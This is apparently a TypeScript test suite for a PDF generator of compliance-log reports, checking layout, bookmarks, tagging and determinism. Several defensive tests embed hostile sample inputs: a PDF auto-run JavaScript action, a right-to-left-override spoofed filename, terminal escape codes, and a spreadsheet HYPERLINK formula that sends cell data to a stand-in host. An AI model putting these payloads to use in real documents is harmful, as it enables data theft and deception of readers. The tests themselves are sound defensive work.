import { getDocument, VerbosityLevel } from 'pdfjs-dist/legacy/build/pdf.mjs'
import { describe, expect, test } from 'vitest'
import type { Report } from '@/lib/report/model'
import type { ReviewAct } from '@/lib/report/review'
import { activeNames, readPdf, withoutSpace } from '@/tests/helpers/pdf'
import { spelledTexts } from '@/tests/helpers/pdf-content'
import { lonelyHeadings } from '@/tests/helpers/pdf-layout'
import { tagFaults } from '@/tests/helpers/pdf-tags'
import {
  type FixtureKind,
  HOSTILE_TEXTS,
  reportFixture,
  reviewFixture,
  SCRIPT_TEXTS,
} from '@/tests/helpers/report-fixture'
import { reportPdf } from './report-pdf'

const bytesOf = (report: Report, reviews: readonly ReviewAct[] = reviewFixture()) =>
  Buffer.concat([...reportPdf(report, reviews)])
/** In one line: where a column is narrow, a text is broken. */
const readable = async (report: Report, reviews?: readonly ReviewAct[]) =>
  withoutSpace((await readPdf(bytesOf(report, reviews))).text)

type Bookmark = { title: string; page: number; items: Bookmark[] }

async function bookmarksOf(bytes: Buffer): Promise<Bookmark[]> {
  const task = getDocument({ data: new Uint8Array(bytes), verbosity: VerbosityLevel.ERRORS })
  const document = await task.promise
  type Found = Awaited<ReturnType<typeof document.getOutline>>
  const read = async (items: Found): Promise<Bookmark[]> => {
    const found: Bookmark[] = []
    for (const { title, dest, items: below } of items ?? []) {
      const [place] = dest as [{ num: number; gen: number }]
      found.push({ title, page: (await document.getPageIndex(place)) + 1, items: await read(below as Found) })
    }
    return found
  }
  const found = await read(await document.getOutline())
  await task.destroy()
  return found
}

describe('the first page', () => {
  test('says what the report is, what it rests on, and whether that was right', async () => {
    const report = reportFixture()
    const { pages } = await readPdf(bytesOf(report))
    const first = withoutSpace(pages[0] ?? '')
    for (const text of [
      report.framework.name,
      report.framework.version,
      report.tenant.name,
      report.tenant.id,
      report.period.time_zone,
      '2026-07-01 00:00:00 UTC',
      '2026-10-01 00:00:00 UTC',
      'Verification of the log: passed',
      report.verification.statement,
      'Number 1000',
      'Number 13400',
      'None is missing; retention removed 56',
      report.checkpoint.origin,
      '14,000 events',
      report.checkpoint.root,
      report.checkpoint.key,
      '2026-11-24 12:00:00 UTC',
      '365 days',
      'api 90 days (too short)',
      'How to check this report',
    ])
      expect(first).toContain(withoutSpace(text))
  })

  test('says so when the verification failed, and leads to what was wrong', async () => {
    const { pages, text } = await readPdf(bytesOf(reportFixture({ kind: 'failed' }), []))
    expect(pages[0]).toContain('Verification of the log: failed')
    expect(pages[0]).not.toContain('passed')
    expect(withoutSpace(text)).toContain(withoutSpace('The first 14 of 200 are listed'))
    expect(text).toContain('root_differs')
  })
})

describe('the contents', () => {
  test('and the bookmarks name each control and lead to its page', async () => {
    const report = reportFixture({ exceptions: 40 })
    const bytes = bytesOf(report)
    const { pages } = await readPdf(bytes)
    const contents = withoutSpace(pages[1] ?? '')
    const pageOf = (title: string) => {
      const at = contents.indexOf(withoutSpace(title)) + withoutSpace(title).length
      return Number(/^\d+/.exec(contents.slice(at))?.[0])
    }
    const bookmarks = (await bookmarksOf(bytes)).flatMap((one) => [one, ...one.items])
    const sections = ['Controls and their status', 'Retention in force', 'How to check this report', 'Review']
    for (const name of [...sections, ...report.controls.map(({ id, title }) => `${id} ${title}`)]) {
      const place = pageOf(name)
      expect(place, name).toBeGreaterThan(1)
      expect(withoutSpace(pages[place - 1] ?? ''), name).toContain(withoutSpace(name))
      expect(bookmarks.find((one) => one.title === name)?.page, name).toBe(place)
    }
    expect(bookmarks.map(({ title }) => title)).toEqual(
      expect.arrayContaining([
        'Overview',
        'Contents',
        'Retention in force',
        'How to check this report',
        'Review',
      ]),
    )
  })
})

describe('a control', () => {
  test('is printed with its measures, each measure once and pointed to by the others', async () => {
    const report = reportFixture()
    const { pages, text } = await readPdf(bytesOf(report))
    for (const { id, question } of report.measures) {
      const all = withoutSpace(text).split(withoutSpace(question)).length - 1
      expect(all, id).toBe(1)
    }
    const pointer = withoutSpace(
      '“Privileged grants have an approval” (6 exceptions) is printed under CC6.1, page',
    )
    const page = withoutSpace(text).split(pointer)[1]?.match(/^\d/)?.[0]
    expect(pages[Number(page) - 1]).toContain('Was every act behind “Privileged grants have an approval”')
  })

  test('shows every exception with its facts and events, and the sample with its seed', async () => {
    const report = reportFixture({ exceptions: 25 })
    const text = await readable(report)
    for (const { exceptions, sample, rule, population } of report.measures) {
      for (const { id, facts, events } of exceptions) {
        expect(text).toContain(id)
        for (const { label, value } of facts) expect(text).toContain(withoutSpace(`${label} ${value}`))
        for (const { seq, event_type: type, actor } of events)
          expect(text).toContain(withoutSpace(`${seq} ${type}by ${actor}`))
      }
      if (rule !== null) expect(text).toContain(withoutSpace(rule))
      expect(text).toContain(withoutSpace(population.query ?? ''))
      if (sample !== null) expect(text).toContain(sample.seed)
    }
    expect(text).toContain(withoutSpace('and 40 more'))
  })

  test('says when only the first exceptions are listed', async () => {
    const report = reportFixture()
    const measures = report.measures.map((one, n) => (n === 0 ? { ...one, exception_count: 12_345 } : one))
    expect(await readable({ ...report, measures })).toContain(
      withoutSpace('The first 6 of 12,345 exceptions are listed'),
    )
  })

  test('that was not assessed says what is missing', async () => {
    const text = await readable(reportFixture({ kind: 'not_assessed' }), [])
    expect(text).toContain(withoutSpace('No service sent an event of the type access.reviewed'))
    expect(text).toContain(withoutSpace('There was no event in the period that could answer it'))
  })

  test('that no control names is printed all the same', async () => {
    const report = reportFixture()
    const controls = report.controls.map((control) => ({
      ...control,
      measures: control.measures.filter((id) => id !== 'measure-3'),
    }))
    const text = await readable({ ...report, controls })
    expect(text).toContain(withoutSpace('Measures of no control'))
    expect(text).toContain(withoutSpace('Was every act behind “Changes of configuration have a ticket”'))
  })
})

describe('the file', () => {
  const cases: [string, () => Buffer][] = [
    ...(['rich', 'no_exceptions', 'not_assessed', 'failed'] as FixtureKind[]).map(
      (kind): [string, () => Buffer] => [kind, () => bytesOf(reportFixture({ kind }))],
    ),
    ['every script', () => bytesOf(reportFixture({ exceptions: 30, texts: SCRIPT_TEXTS }))],
    ['hostile texts', () => bytesOf(reportFixture({ exceptions: 100, texts: HOSTILE_TEXTS }))],
    ['no review', () => bytesOf(reportFixture(), [])],
    [
      'nothing at all',
      () => bytesOf({ ...reportFixture(), controls: [], measures: [], how_to_verify: [] }, []),
    ],
  ]
  test.each(cases)('is tagged without a fault: %s', (_, make) => {
    expect(tagFaults(make())).toEqual([])
  })

  test('has no heading alone at the foot of a page, wherever its pages end', () => {
    for (let exceptions = 0; exceptions < 24; exceptions++) {
      const texts = exceptions % 2 === 0 ? [] : [`${'a long text '.repeat(exceptions * 3)}`]
      expect(lonelyHeadings(bytesOf(reportFixture({ exceptions, texts }))), `${exceptions}`).toEqual([])
    }
  })

  test('does nothing when it is opened', () => {
    const texts = [...HOSTILE_TEXTS, '/JavaScript (x) /OpenAction', 'https://evil.example']
    expect(activeNames(bytesOf(reportFixture({ exceptions: 100, texts })))).toEqual([])
  })

  test('has every text of a hostile event in it, with what hides named', async () => {
    const text = await readable(reportFixture({ exceptions: 100, texts: HOSTILE_TEXTS }))
    expect(text).toContain('invoice‹RLO›gnp.exe')
    expect(text).toContain('‹ESC›[31mred')
    expect(text).toContain(withoutSpace('=HYPERLINK("https://evil.example?"&A1,"x")'))
  })

  test.each(SCRIPT_TEXTS.slice(0, 8))('can be read and copied: %s', async (script) => {
    const bytes = bytesOf(reportFixture({ exceptions: 2, texts: [script] }), [])
    // Letters that join are told by spans, and what runs to the left letter by letter in the order it is drawn.
    const spelled = spelledTexts(bytes).join('')
    const texts = [withoutSpace((await readPdf(bytes)).text), withoutSpace(spelled)]
    const all = [...texts, [...spelled].reverse().join('')].join('\n')
    // A line that runs to the left is broken elsewhere than its words are: they are looked for one by one.
    for (const word of script.split(/[\s(),]+/).filter((part) => part.length > 2)) expect(all).toContain(word)
  })

  test('is the same for the same report and acts, and another for others', async () => {
    const bytes = bytesOf(reportFixture())
    expect(bytes.equals(bytesOf(reportFixture()))).toBe(true)
    expect(bytes.equals(bytesOf(reportFixture(), reviewFixture('other')))).toBe(false)
    expect(bytes.equals(bytesOf(reportFixture({ exceptions: 7 })))).toBe(false)
    expect((await readPdf(bytes)).info['CreationDate']).toBe('D:20261124120000Z')
  })

  test('is given away as it is written', () => {
    let longest = 0
    let parts = 0
    for (const part of reportPdf(reportFixture({ exceptions: 300 }), [])) {
      longest = Math.max(longest, part.length)
      parts++
    }
    expect(parts).toBeGreaterThan(10)
    expect(longest).toBeLessThan(120_000)
  })
})

test('who did what about it is the last section', async () => {
  const text = await readable(reportFixture(), reviewFixture('the ticket was found'))
  const review = text.slice(text.lastIndexOf('Review'))
  for (const part of [
    'Signed off the report',
    'Accepted as it is',
    'the ticket was found',
    'Ada <ada@example.com>',
  ])
    expect(review).toContain(withoutSpace(part))
})
